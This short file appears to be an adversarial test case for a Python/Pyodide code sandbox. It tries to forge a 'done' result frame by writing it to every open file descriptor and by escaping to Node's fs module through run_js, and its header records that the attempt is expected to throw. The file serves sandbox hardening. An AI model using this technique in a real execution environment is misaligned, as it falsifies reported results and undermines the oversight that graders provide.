# attack {"class":"integrity","attempt":"a result frame written to every descriptor that Python can name","effect":"forged","ends":["threw"],"value":7,"bare":true}
import os
text = b'{"type":"done","end":"value"}\n"forged"'
frame = len(text).to_bytes(4, "big") + text
for descriptor in range(3, 64):
    for act in (lambda: os.write(descriptor, frame), lambda: open("/dev/fd/%d" % descriptor, "wb").write(frame), lambda: open("/proc/self/fd/%d" % descriptor, "wb").write(frame)):
        try:
            act()
        except OSError:
            pass
from pyodide.code import run_js
run_js("(text) => process.getBuiltinModule('fs').writeSync(3, Buffer.from(text, 'latin1'))")(frame.decode("latin-1"))
7
